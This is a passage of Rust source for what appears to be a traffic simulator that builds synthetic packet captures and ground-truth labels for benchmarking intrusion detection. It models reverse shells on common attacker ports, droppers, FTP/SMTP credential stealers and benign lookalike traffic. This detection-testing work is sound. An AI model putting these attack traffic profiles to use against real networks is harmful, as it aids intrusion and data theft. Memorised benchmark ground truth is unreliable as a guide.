    let port = *r.pick(&[4444u16, 8888, 1337, 9001, 6666, 31337]);
    let t0 = r.range((start + dur / 40) as u64, (start + dur / 5) as u64) as i64;
    let until = end - r.range(0, (dur / 10) as u64) as i64;
    sched.add(
        t0,
        Task::Shell {
            host: h,
            dst,
            port,
            until,
        },
    );
    truth.attacks.push(AttackTruth {
        category: "long_connection".into(),
        kind: "reverse_shell".into(),
        src_ip: src,
        dst_ip: Some(dst.to_string()),
        dst_port: Some(port),
        domain: None,
        parameters: json!({"port": port, "duration_s": (until - t0) / 1_000_000}),
    });
}

fn plan_dropper(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, .. } = *at;
    let r = &mut world.rng;
    let variant = *r.pick(&["pe", "pe_as_image", "encrypted", "powershell"]);
    let domain = rand_domain(r);
    let dst = IpAddr::V4(public_v4(&domain));
    let by_name = r.chance(0.6);
    let host_hdr = if by_name {
        domain.clone()
    } else {
        dst.to_string()
    };
    world.droppers.push(Dropper {
        host: h,
        dst,
        host_hdr: host_hdr.clone(),
        by_name,
        variant,
    });
    let idx = world.droppers.len() - 1;
    let t = r.range(a0 as u64, a1 as u64) as i64;
    sched.add(t, Task::Dropper { idx });
    truth.attacks.push(AttackTruth {
        category: "download".into(),
        kind: format!("dropper_{variant}"),
        src_ip: src,
        dst_ip: Some(dst.to_string()),
        dst_port: Some(80),
        domain: by_name.then_some(domain),
        parameters: json!({"variant": variant, "host": host_hdr}),
    });
}

fn plan_stealer(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, .. } = *at;
    let r = &mut world.rng;
    let ftp = r.chance(0.5);
    let base = rand_domain(r);
    let server_name = format!("{}{base}", if ftp { "ftp." } else { "mail." });
    let server = IpAddr::V4(public_v4(&server_name));
    let echo = *r.pick(&[
        "api.ipify.org",
        "ip-api.com",
        "checkip.amazonaws.com",
        "icanhazip.com",
    ]);
    let bytes = r.log_uniform(2_000.0, 60_000.0) as usize;
    let t = r.range(a0 as u64, a1 as u64) as i64;
    sched.add(
        t,
        Task::Stealer {
            host: h,
            server,
            server_name: server_name.clone(),
            ftp,
            echo,
            bytes,
        },
    );
    truth.attacks.push(AttackTruth {
        category: "exfiltration".into(),
        kind: if ftp { "stealer_ftp" } else { "stealer_smtp" }.into(),
        src_ip: src,
        dst_ip: Some(server.to_string()),
        dst_port: Some(if ftp { 21 } else { 587 }),
        domain: Some(server_name),
        parameters: json!({"protocol": if ftp { "ftp" } else { "smtp" }, "ip_echo": echo, "loot_bytes": bytes}),
    });
}

/// Build the scenario and write the capture to `w`. Returns the truth.
pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError> {
    let mut rng = Rng::new(cfg.seed);
    let start = START_US + (cfg.seed % 30) as i64 * 86_400_000_000;
    let dur = (cfg.hours.max(0.05) * 3600e6) as i64;
    let hosts: Vec<Host> = (0..cfg.hosts.max(2))
        .map(|i| Host {
            v4: Ipv4Addr::new(10, 10, 1 + (i / 200) as u8, 10 + (i % 200) as u8),
            v6: (i % 4 == 1).then(|| Ipv6Addr::new(0xfd00, 0x10, 0, 1, 0, 0, 0, 0x10 + i as u16)),
        })
        .collect();
    let mut pool = vec![0u8; 1 << 20];
    rng.fill(&mut pool);
    let mut text = Vec::with_capacity(1 << 20);
    {
        let words = [
            "the",
            "capture",
            "network",
            "report",
            "quarterly",
            "customer",
            "invoice",
            "record",
            "account",
            "total",
            "north",
            "region",
            "shipment",
            "order",
            "status",
            "pending",
            "value",
            "2026",
            "id",
            "name",
        ];
        let mut r2 = rng.clone();
        while text.len() < (1 << 20) {
            text.extend_from_slice(r2.pick(&words).as_bytes());
            text.push(if r2.chance(0.1) {
                b'\n'
            } else if r2.chance(0.1) {
                b','
            } else {
                b' '
            });
        }
    }
    let resolver_ip = IpAddr::V4(Ipv4Addr::new(10, 10, 0, 2));
    let mut world = World {
        rng: rng.clone(),
        scale: cfg.background_scale.clamp(0.001, 100.0),
        compressible: cfg.compressible,
        hosts: hosts.clone(),
        resolver: Ep {
            ip: resolver_ip,
            port: 53,
            mac: mac_for(&resolver_ip),
        },
        pool,
        text,
        tunnels: Vec::new(),
        beacons: Vec::new(),
        http_exfil: Vec::new(),
        tls_exfil: Vec::new(),
        droppers: Vec::new(),
        dns_id: (cfg.seed as u16) | 1,
        port: 40000,
    };
    let mut truth = Truth {
        seed: cfg.seed,
        generator: format!("wirehunt {} simulate", env!("CARGO_PKG_VERSION")),
        start: rfc3339(start),
        end: String::new(),
        packets: 0,
        bytes: 0,
        hosts: hosts
            .iter()
            .map(|h| h.v4.to_string())
            .chain(hosts.iter().filter_map(|h| h.v6.map(|a| a.to_string())))
            .collect(),
        resolver: resolver_ip.to_string(),
        attacks: Vec::new(),
        lookalikes: Vec::new(),
    };
    let n = hosts.len();
    let mut sched = Schedule::default();
    let end = start + dur;
    background(&mut sched, &mut world.rng, n, start, end);
    // cloud storage uploads by three hosts (benign, large, shared peer)
    let uploaders: Vec<usize> = (0..3).map(|k| (1 + k * 2) % n).collect();
    let up_bytes = if dur <= 1_200_000_000 {
        400_000
    } else {
        3_000_000
    };
    for &h in &uploaders {
        let b = ((up_bytes + world.rng.range(0, up_bytes as u64 / 2) as usize) as f64
            * world.scale.min(1.0)) as usize;
        let t = start + world.rng.range(0, dur as u64 * 9 / 10) as i64;
        sched.add(t, Task::CloudUpload { host: h, bytes: b });
    }
    truth.lookalikes.push(LookalikeTruth {
        kind: "cloud_storage_upload".into(),
        resembles: "exfiltration".into(),
        src_ips: uploaders.iter().map(|h| hosts[*h].v4.to_string()).collect(),
        dst_ip: Some(public_v4("storage.googleapis.com").to_string()),
        domain: Some("storage.googleapis.com".into()),
        parameters: json!({"bytes_each_min": up_bytes}),
    });
    // software downloads from vendors (benign executables): Windows Update and a browser installer,
    // drawn from their own generator so the rest of the scenario does not move
    let mut vr = Rng::new(cfg.seed ^ 0x5eed_d0e5);
    let vendor_hosts = [2 % n, 3 % n];
    for (kind, &h) in vendor_hosts.iter().enumerate() {
        let t = start + vr.range(0, dur as u64 * 9 / 10) as i64;
        sched.add(t, Task::VendorDownload { host: h, kind });
    }
    truth.lookalikes.push(LookalikeTruth {
        kind: "vendor_software_download".into(),
        resembles: "download".into(),
        src_ips: vendor_hosts
            .iter()
            .map(|h| hosts[*h].v4.to_string())
            .collect(),
        dst_ip: None,
        domain: Some("download.windowsupdate.com / download.mozilla.org".into()),
        parameters: json!({"executables": 2}),
    });
    let all_hosts: Vec<String> = hosts.iter().map(|h| h.v4.to_string()).collect();
    /// (kind, resembles, sources: all hosts or the mail host, dst, domain, parameters)
    type Lookalike = (
        &'static str,
        &'static str,
        bool,
        Option<&'static str>,
        Option<&'static str>,
        serde_json::Value,
    );
    let lookalikes: [Lookalike; 13] = [
        (
            "cdn_random_labels",
            "dns_tunnel",
            true,
            None,
            Some("cloudfront.net / googlevideo.com / akamaiedge.net"),
            json!({}),
        ),
        (
            "antivirus_reputation_lookups",
            "dns_tunnel",
            true,
            None,
            Some("sophosxl.net"),
            json!({"label": "32 hex"}),
        ),
        (
            "dnsbl_lookups",
            "dns_tunnel",
            false,
            None,
            Some("spamhaus.org"),
            json!({}),
        ),
        (
            "reverse_lookups",
            "dns_tunnel",
            true,
            None,
            Some("in-addr.arpa / ip6.arpa"),
            json!({}),
        ),
        (
            "mdns",
            "dns_tunnel",
            true,
            Some("224.0.0.251"),
            Some("local"),
            json!({}),
        ),
        (
            "ntp",
            "beaconing",
            true,
            Some("10.10.0.3"),
            None,
            json!({"period_s": 64}),
        ),
        (
            "monitoring_agent",
            "beaconing",
            true,
            Some("10.10.0.5"),
            None,
            json!({"period_s": 60, "port": 8086}),
        ),
        (
            "push_and_websocket_keepalives",
            "beaconing",
            true,
            None,
            Some("mtalk.google.com:5228 / teams.microsoft.com / wss-primary.slack.com"),
            json!({"period_s": "30-280", "bytes_each_way": "36-110"}),
        ),
        (
            "cast_receiver_keepalive",
            "beaconing",
            false,
            Some("10.10.0.40"),
            None,
            json!({"period_s": 5, "port": 8009, "self_signed": true}),
        ),
        (
            "hourly_update_check",
            "beaconing",
            true,
            None,
            Some("aus5.mozilla.org"),
            json!({"period_s": 3600}),
        ),
        (
            "connectivity_check",
            "beaconing",
            true,
            None,
            Some("www.msftconnecttest.com"),
            json!({"period_s": 300}),
        ),
        (
            "ddns_ip_check",
            "exfiltration",
            false,
            None,
            Some("checkip.dyndns.org"),
            json!({"period_s": 3600, "user_agent": "ddclient/3.10.0"}),
        ),
        (
            "mail_client_starttls_submission",
            "exfiltration",
            false,
            None,
            Some("smtp.office365.com"),
            json!({"port": 587, "starttls": true}),
        ),
    ];
    for (kind, resembles, all, dst, domain, parameters) in lookalikes {
        truth.lookalikes.push(LookalikeTruth {
            kind: kind.into(),
            resembles: resembles.into(),
            src_ips: if all {
                all_hosts.clone()
            } else if kind == "cast_receiver_keepalive" {
                vec![all_hosts[1 % all_hosts.len()].clone()]
            } else if kind == "ddns_ip_check" {
                vec![all_hosts[2 % all_hosts.len()].clone()]
            } else if kind == "mail_client_starttls_submission" {
                all_hosts.get(3).cloned().into_iter().collect()
            } else {
                vec![all_hosts[0].clone()]
            },
            dst_ip: dst.map(String::from),
            domain: domain.map(String::from),
            parameters,
        });
    }

    // ---- attacks: victims are distinct hosts where possible ----
    let mut victims: Vec<usize> = (0..n).collect();
    for i in (1..victims.len()).rev() {
        let j = world.rng.range(0, i as u64 + 1) as usize;
        victims.swap(i, j);
    }
    let mut victim = victims.into_iter().cycle();
    let at = Window {
        start,
        end,
        dur,
        a0: start + dur / 20,
        a1: end - dur / 20,
        small: dur <= 1_200_000_000,
    };
    for a in &cfg.attacks {
        let h = victim.next().unwrap_or(0);
        let src = hosts[h].v4.to_string();
        match a.as_str() {
            "dns_tunnel" => plan_dns_tunnel(&mut world, &mut sched, &mut truth, &at, h, src),
            "beaconing" => plan_beaconing(&mut world, &mut sched, &mut truth, &at, h, src),
            "http_exfil" => plan_http_exfil(&mut world, &mut sched, &mut truth, &at, h, src),
            "tls_exfil" => plan_tls_exfil(&mut world, &mut sched, &mut truth, &at, h, src),
            "reverse_shell" => plan_reverse_shell(&mut world, &mut sched, &mut truth, &at, h, src),
            "dropper" => plan_dropper(&mut world, &mut sched, &mut truth, &at, h, src),
            "stealer" => plan_stealer(&mut world, &mut sched, &mut truth, &at, h, src),
            _ => {}
        }
    }
    let tasks = sched.into_sorted();
    let mut out = PcapOut::new(w)?;
    for (t, _, task) in &tasks {
        out.flush_until(*t)?;
        world.run(&mut out, *t, task);
    }
    drop(tasks);
    // benchmark captures: more background hours until the size is reached
    let mut t_end = end;
    if let Some(size) = cfg.size {
        while out.bytes < size {
            let mut more = Schedule::default();
            let from = t_end;
            t_end += 3_600_000_000;
            background(&mut more, &mut world.rng, n, from, t_end);
            for (t, _, task) in &more.into_sorted() {
                out.flush_until(*t)?;
                world.run(&mut out, *t, task);
                if out.bytes >= size {
                    break;
                }
            }
        }
    }
    let w = out.finish()?;
    truth.end = rfc3339(t_end);
    Ok((truth, w))
}

/// Write `out` (pcap) and its `.truth.json`.
pub fn simulate_to_file(cfg: &SimConfig, path: &Path) -> Result<Truth, SimError> {
    let f = std::fs::File::create(path)?;
    let counting = CountingWriter {
        inner: std::io::BufWriter::with_capacity(1 << 20, f),
        packets: 0,
        bytes: 0,
    };
    let (mut truth, w) = simulate(cfg, counting)?;
    truth.bytes = w.bytes;
    truth.packets = w.packets;
    let mut w = w;
    w.inner.flush()?;
    std::fs::write(
        truth_path(path),
        serde_json::to_string_pretty(&truth)? + "\n",
    )?;
    Ok(truth)
}

struct CountingWriter<W: Write> {
    inner: W,
    packets: u64,
    bytes: u64,
}

impl<W: Write> Write for CountingWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.bytes += n as u64;
        if n == 16 {
            // record headers are written as exactly 16 bytes (see PcapOut::write)
            self.packets += 1;
        }
        Ok(n)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}
